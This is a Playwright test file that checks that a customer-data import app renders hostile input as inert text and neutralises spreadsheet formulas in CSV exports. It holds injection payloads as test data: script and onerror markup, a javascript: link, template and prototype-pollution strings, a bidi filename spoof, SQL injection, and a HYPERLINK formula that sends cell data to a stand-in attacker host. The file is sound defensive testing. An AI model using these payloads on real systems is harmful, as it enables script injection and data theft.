import type { Page } from '@playwright/test';
import { customerlabsRecord, fileOf } from './support/files.ts';
import { accounting, dropFiles, exportAs, goTo, importFiles, rowsOf, startImport } from './support/steps.ts';
import { expect, test } from './support/test.ts';

/** Nothing resolves for the window, and the program ends if it connects to anything but this machine. */
test.use({ weftOptions: { offline: true } });

const MARKUP = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';
const FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"open")';
const BIDI = 'safe\u202Egnp.exe\u2066\u200B';
const LONG = `long${'x'.repeat(9_996)}`;
const LINK = 'javascript:window.hacked=1';
const TEMPLATE = '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} %s %{} \\u003cb>';
const HOSTILE = [
  MARKUP,
  FORMULA,
  BIDI,
  LONG,
  LINK,
  TEMPLATE,
  '__proto__',
  'constructor',
  "'; DROP TABLE events; --",
];

/** Every hostile value as device, custom id, name of an event, trait, campaign, order, product and company. */
function hostileLog(): string {
  const at = (minute: number): string => new Date(Date.UTC(2026, 2, 2, 9, minute)).toISOString();
  return HOSTILE.flatMap((value, index) => {
    const email = `person${index}@example.org`;
    return [
      customerlabsRecord(value, at(10 * index), {
        device: value,
        custom: {
          page_url: `https://shop.example/?utm_source=${encodeURIComponent(value)}&gclid=g${index}`,
          [value]: value,
        },
      }),
      customerlabsRecord('Update user', at(10 * index + 1), {
        device: value,
        custom: { identify_by_email: email, identify_by_crm_user_id: value },
        traits: { first_name: value, [value]: value },
      }),
      customerlabsRecord('Purchased', at(10 * index + 2), {
        device: value,
        custom: { transaction_id: value, value: 10, currency: value },
        products: [{ product_id: value, product_name: value, product_price: 10, product_quantity: 1 }],
      }),
      customerlabsRecord('Update user', at(10 * index + 3), {
        device: value,
        custom: { identify_by_email: `other${index}@example.org` },
      }),
      customerlabsRecord('Create group', at(10 * index + 4), {
        custom: { identify_by_email: email, identify_by_website: value },
        company: { company_name: value, [value]: value },
      }),
      customerlabsRecord(value, at(10 * index + 5), {}),
      `{"event":${JSON.stringify(value)},"timestamp":${JSON.stringify(value)},"customerlabs_user_id":"d"}\n`,
      `${value.replaceAll('\n', ' ')}\n`,
    ];
  }).join('');
}

const HOSTILE_NAME = `${MARKUP.replaceAll('/', '')} ${BIDI}.ndjson`;

/** Nothing of the log has become a part of the page or of the language. */
async function expectInert(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    hacked: 'hacked' in window,
    images: document.querySelectorAll('img[src="x"]').length,
    scripts: [...document.scripts].filter(({ src }) => !src.startsWith(`${location.origin}/assets/`)).length,
    links: document.querySelectorAll('a[href^="javascript:"]').length,
    prototype: Object.keys(Object.prototype).length,
    isClean: Object.getPrototypeOf({}) === Object.prototype && !('polluted' in {}),
  }));
  expect(found).toEqual({ hacked: false, images: 0, scripts: 0, links: 0, prototype: 0, isClean: true });
  const shown = await page.locator('body').innerText();
  expect(shown, 'characters that turn the direction of text').not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
}

test('hostile values stay text in every view', async ({ page }) => {
  await dropFiles(page, [fileOf(HOSTILE_NAME, hostileLog())]);
  await expect(page.getByRole('main')).toContainText('<img src=x onerror');
  await expectInert(page);
  await startImport(page);
  await expect(accounting(page)).toContainText(`${HOSTILE.length * 8} records read`);
  await expectInert(page);

  for (const view of ['Profiles', 'Merges', 'Segments', 'Rules', 'Sources', 'Unresolved', 'Graph'] as const) {
    await goTo(page, view);
    await expect(page.getByRole('main').getByRole('heading').first()).toBeVisible();
    await page.waitForLoadState('networkidle');
    await expectInert(page);
  }
  await goTo(page, 'Start');
  await expect(page.getByRole('table')).toContainText('<img src=x onerror');
  await expectInert(page);
});

test('hostile values stay text in a profile and in the evidence of each of its events', async ({ page }) => {
  await importFiles(page, [fileOf('hostile.ndjson', hostileLog())]);
  for (const index of [0, 2, 3, 6]) {
    await goTo(page, 'Profiles');
    await page.getByRole('textbox', { name: 'Search profiles' }).fill(`person${index}@example.org`);
    await expect(rowsOf(page, 'Profiles')).toHaveCount(1);
    await rowsOf(page, 'Profiles').first().dblclick();
    const tabs = page.getByRole('tablist').getByRole('tab');
    await expect(tabs.first()).toBeVisible();
    for (const tab of await tabs.all()) {
      await tab.click();
      await expect(page.getByRole('tabpanel')).toBeVisible();
      await expectInert(page);
    }
    await page.getByRole('tab', { name: /^Timeline/ }).click();
    for (const link of await page.getByRole('tabpanel').locator('.evidence-link').all()) {
      await link.click();
      await expect(page.getByRole('dialog', { name: 'Evidence' }).getByLabel('Record')).toBeVisible();
      await expectInert(page);
      await page.keyboard.press('Escape');
    }
  }
});

test('a spreadsheet runs nothing of an export, and NDJSON has every value as it was', async ({ page }) => {
  await importFiles(page, [fileOf('hostile.ndjson', hostileLog())]);
  for (const [view, button] of [
    ['Profiles', 'Export profiles'],
    ['Merges', 'Export decisions'],
    ['Unresolved', 'Export unresolved'],
    ['Sources', 'Export all rejections'],
  ] as const) {
    await goTo(page, view);
    const { rows } = await exportAs(page, button, 'CSV');
    expect(rows.length).toBeGreaterThan(0);
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+@\t\r-]/.test(cell) && !/^-?[\d.]+$/.test(cell))).toEqual([]);
  }
  await goTo(page, 'Profiles');
  const { objects } = await exportAs(page, 'Export profiles', 'NDJSON');
  const titles = objects.map(({ title }) => title);
  for (const value of HOSTILE) expect(titles).toContain(value);
});
